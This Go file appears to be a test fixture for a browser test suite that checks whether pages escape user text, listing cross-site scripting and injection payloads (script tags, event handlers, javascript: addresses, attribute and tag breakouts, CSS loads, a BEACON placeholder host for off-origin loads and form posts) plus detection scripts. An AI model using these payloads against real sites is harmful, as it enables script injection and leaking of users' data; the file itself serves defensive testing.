package browser

import (
	"fmt"
	"strings"
)

// payload is a text of a stranger who wants a page to run or to load something. In text,
// MARK is replaced by the payload's own word, and BEACON by an address of another origin.
type payload struct {
	name  string
	in    string // the control's page, which falls for it
	text  string
	quiet bool // nothing runs or loads: it only must be shown, and not spoil the page
}

// The places in a page that payloads are made for.
const (
	inText    = "<p>%s</p>"
	inLink    = `<a href="%s">a link</a>`
	inDouble  = `<p title="%s">a title</p>`
	inSingle  = `<p title='%s'>a title</p>`
	inBare    = "<p title=%s>a title</p>"
	inTitle   = "<title>%s</title>"
	inStyle   = "<style>p { color: %s }</style><p>text</p>"
	inField   = "<textarea>%s</textarea>"
	inComment = "<!-- %s -->"
	inScript  = `<script>const x = "%s"</script>`
)

// payloads are what a stranger tries.
var payloads = []payload{
	{name: "script", in: inText, text: `<script data-ran>window.__ran="MARK"</script>`},
	{name: "script that ends another", in: inScript, text: `</script><script data-ran>window.__ran="MARK"</script>`},
	{name: "script from elsewhere", in: inText, text: `<script data-ran src="BEACON/MARK.js"></script>`},
	{name: "error handler", in: inText, text: `<img data-ran src=x onerror=window.__ran="MARK">`},
	{name: "load handler", in: inText, text: `<svg data-ran onload=window.__ran="MARK"></svg>`},
	{name: "focus handler", in: inText, text: `<input data-ran autofocus onfocus=window.__ran="MARK">`},
	{name: "end of an attribute", in: inDouble, text: `"><img data-ran src=x onerror=window.__ran="MARK">`},
	{name: "end of another attribute", in: inSingle, text: `'><img data-ran src=x onerror=window.__ran="MARK">`},
	{name: "attribute", in: inDouble, text: `" data-ran autofocus tabindex=0 onfocus=window.__ran='MARK' x="`},
	{name: "attribute without quotes", in: inBare, text: `x data-ran autofocus tabindex=0 onfocus=window.__ran='MARK'`},
	{name: "address that runs", in: inLink, text: `javascript:window.__ran="MARK"//`},
	{name: "address that runs, disguised", in: inLink, text: `JaVaScRiPt:window.__ran="MARK"//`},
	{name: "address with a page", in: inLink, text: `data:text/html,<script>parent.__ran="MARK"</script>`},
	{name: "image from elsewhere", in: inText, text: `<img data-ran src="BEACON/MARK.png">`},
	{name: "frame", in: inText, text: `<iframe data-ran srcdoc="<script>parent.__ran='MARK'</script>"></iframe>`},
	{name: "redirection", in: inText, text: `<meta data-ran http-equiv=refresh content="0;url=BEACON/MARK">`},
	{name: "base", in: inText, text: `<base data-ran href="BEACON/MARK/"><img src=x>`},
	{name: "form that sends elsewhere", in: inText, text: `</form><form data-ran action="BEACON/MARK"><button>`},
	{name: "style", in: inText, text: `<style data-ran>*{background:url("BEACON/MARK.css")}</style>`},
	{name: "end of a style", in: inStyle, text: `</style><style data-ran>body{background:url("BEACON/MARK.css")}</style>`},
	{name: "end of a declaration", in: inStyle, text: `red;background:url(BEACON/MARK.css)`},
	{name: "style from elsewhere", in: inText, text: `<link data-ran rel=stylesheet href="BEACON/MARK.css">`},
	{name: "end of a title", in: inTitle, text: `</title><script data-ran>window.__ran="MARK"</script>`},
	{name: "end of a field", in: inField, text: `</textarea><script data-ran>window.__ran="MARK"</script>`},
	{name: "end of a comment", in: inComment, text: `--><script data-ran>window.__ran="MARK"</script>`},
	{name: "mathematics", in: inText, text: `<math><mtext><table><mglyph><style><img data-ran src=x onerror=window.__ran="MARK">`},
	{name: "template", in: inText, text: `<template><p>MARK</p></template><slot data-ran>`},
	{name: "entity", text: `&lt;img data-ran src=x onerror=window.__ran="MARK"&gt; &#60;b&#62;MARK`, quiet: true},
	{name: "placeholders", text: `{{.}} {{"MARK"}} ${MARK} %s %!d(MARK) #{7*7} <%= 7*7 %>`, quiet: true},
	{name: "string of a script", text: `\";window.__ran="MARK";//`, quiet: true},
	{name: "separators of lines", text: "MARK\u2028window.__ran=\"MARK\"\u2029", quiet: true},
	{name: "direction", text: "MARK \u202eexe.gnp\u202c \u2067MARK\u2066 \u200f", quiet: true},
	{name: "invisible", text: "MARK\u200b\u2060\ufeff\u00ad\u3164", quiet: true},
	{name: "one long word", text: "MARK" + strings.Repeat("W", 200), quiet: true},
	{name: "pile of accents", text: "MARKZ" + strings.Repeat("\u0334\u0300\u0301", 20), quiet: true},
	{name: "wide letters", text: "MARK" + strings.Repeat("\ufdfd", 24), quiet: true},
	{name: "pictures", text: "MARK👩‍👩‍👧‍👦🏳️‍🌈" + strings.Repeat("👍🏽", 10), quiet: true},
	{name: "spreadsheet", text: `=HYPERLINK("BEACON/MARK","MARK")`, quiet: true},
}

// of returns the payload's text in a field, of at most 256 bytes, and the word by which it
// is recognized. Each field has words of its own: the test must find each of them on some
// page, and so knows that the field is shown there.
func (p payload) of(field string, number int, beacon string) (text, mark string) {
	mark = fmt.Sprintf("Zq%s%02d", field, number)
	return strings.NewReplacer("MARK", mark, "BEACON", beacon).Replace(p.text), mark
}

// ranScript returns what shows that a text was taken for more than a text: the marker of
// a script that ran, elements that came with the text, and addresses that run.
const ranScript = `(() => {
  const found = [];
  if (window.__ran) found.push("a script ran: " + window.__ran);
  for (const e of document.querySelectorAll("[data-ran]")) found.push("an element was made: " + e.outerHTML.slice(0, 120));
  for (const e of document.querySelectorAll("[href], [src], [action], [formaction], [data], [poster], [srcset], [background]")) {
    for (const name of ["href", "src", "action", "formaction", "data", "poster", "srcset", "background"]) {
      const value = e.getAttribute(name);
      if (value === null) continue;
      let address;
      try { address = new URL(value, location.href) } catch { continue }
      if (!["http:", "https:", "mailto:"].includes(address.protocol)) found.push("an address that runs: " + name + "=" + value.slice(0, 120));
      if (address.origin !== location.origin && name !== "href") found.push("an address elsewhere: " + name + "=" + value.slice(0, 120));
    }
  }
  for (const e of document.querySelectorAll("[style]")) if (/url\(/i.test(e.getAttribute("style"))) found.push("a style that loads: " + e.getAttribute("style").slice(0, 120));
  return found;
})()`

// straysScript returns the texts whose characters could turn the direction of what stands
// beside them: those that share the element that isolates them with other texts.
const straysScript = `(() => {
  const found = [];
  const turns = /[\u202a-\u202e\u2066-\u2069\u200e\u200f]/;
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const text = walker.currentNode;
    if (!turns.test(text.data) || !text.parentElement.checkVisibility()) continue;
    let e = text.parentElement;
    while (e !== document.body && !/isolate|plaintext/.test(getComputedStyle(e).unicodeBidi)) e = e.parentElement;
    if (e.textContent.trim() !== text.data.trim()) found.push("a text may turn others: " + text.parentElement.outerHTML.slice(0, 160));
  }
  return found;
})()`
